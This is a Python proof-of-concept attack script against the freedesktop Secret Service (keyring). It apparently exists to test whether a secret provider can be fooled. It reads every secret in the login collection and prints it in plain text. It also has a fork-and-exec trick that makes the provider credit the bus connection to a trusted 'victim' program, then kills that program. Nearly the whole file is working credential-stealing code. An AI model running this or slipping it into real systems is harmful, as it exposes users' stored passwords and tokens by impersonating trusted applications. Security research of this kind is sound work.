#!/usr/bin/python3
"""A same-user attacker on the Secret Service: reads every secret the provider will hand to the
connection it speaks on, as the program the provider takes it for. Prints one line per finding:
"items N", "secret VALUE", or "refused ERROR-NAME: MESSAGE".

    borrow_bus.py read
        Reads as itself (run through a private bind mount, "itself" is another path).
    borrow_bus.py fork-exec [--keep] [--go FILE] VICTIM [ARGUMENTS…]
        Connects to the bus, forks, and executes VICTIM in the connected process, its standard
        input a pipe nobody writes, so it waits there. The child speaks on the inherited
        connection once the parent runs VICTIM (and, with --go, once FILE exists), then kills
        VICTIM. With --keep the connection's socket stays open across the exec (inheritable).
        The child prints "borrowed" when VICTIM runs, and makes FILE.ready, before it waits for FILE.

Run with Debian's /usr/bin/python3 (python3-jeepney) and DBUS_SESSION_BUS_ADDRESS set.
"""
import os
import signal
import sys
import time

from jeepney import DBusAddress, new_method_call
from jeepney.io.blocking import open_dbus_connection
from jeepney.wrappers import DBusErrorResponse

SERVICE = "org.freedesktop.secrets"
LOGIN = "/org/freedesktop/secrets/collection/login"


def call(connection, path, interface, method, signature=None, body=()):
    message = new_method_call(DBusAddress(path, bus_name=SERVICE, interface=interface), method, signature, body)
    reply = connection.send_and_get_reply(message, timeout=30)
    if reply.header.message_type.name == "error":
        raise DBusErrorResponse(reply)
    return reply.body


def read_everything(connection):
    try:
        _, session = call(connection, "/org/freedesktop/secrets", "org.freedesktop.Secret.Service", "OpenSession", "sv", ("plain", ("s", "")))
        (_, items), = call(connection, LOGIN, "org.freedesktop.DBus.Properties", "Get", "ss", ("org.freedesktop.Secret.Collection", "Items"))
        print(f"items {len(items)}", flush=True)
        if items:
            secrets, = call(connection, "/org/freedesktop/secrets", "org.freedesktop.Secret.Service", "GetSecrets", "aoo", (items, session))
            for _, (_, _, value, _) in secrets.items():
                print(f"secret {bytes(value).decode(errors='replace')}", flush=True)
    except DBusErrorResponse as error:
        print(f"refused {error.name}: {error.data[0] if error.data else ''}", flush=True)


def fork_exec(arguments):
    keep, go = False, None
    while arguments and arguments[0].startswith("--"):
        option = arguments.pop(0)
        if option == "--keep":
            keep = True
        elif option == "--go":
            go = arguments.pop(0)
    connection = open_dbus_connection(bus="SESSION")
    if keep:
        os.set_inheritable(connection.sock.fileno(), True)
    before = os.readlink("/proc/self/exe")
    stdin_read, stdin_write = os.pipe()
    parent = os.getpid()
    if os.fork() > 0:
        os.dup2(stdin_read, 0)
        os.close(stdin_write)
        os.execv(arguments[0], arguments)
    os.close(stdin_read)
    deadline = time.monotonic() + 90
    while os.readlink(f"/proc/{parent}/exe") == before:
        if time.monotonic() > deadline:
            print("the parent never executed the victim", flush=True)
            os.kill(parent, signal.SIGKILL)
            return 2
        time.sleep(0.01)
    print(f"borrowed {os.readlink(f'/proc/{parent}/exe')}", flush=True)
    if go:
        open(go + ".ready", "w").close()
        while not os.path.exists(go):
            if time.monotonic() > deadline + 60:
                print("never told to go", flush=True)
                os.kill(parent, signal.SIGKILL)
                return 2
            time.sleep(0.02)
    read_everything(connection)
    os.kill(parent, signal.SIGKILL)
    return 0


def main(arguments):
    if arguments[:1] == ["read"]:
        read_everything(open_dbus_connection(bus="SESSION"))
        return 0
    if arguments[:1] == ["fork-exec"] and len(arguments) > 1:
        return fork_exec(arguments[1:])
    raise SystemExit(__doc__)


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
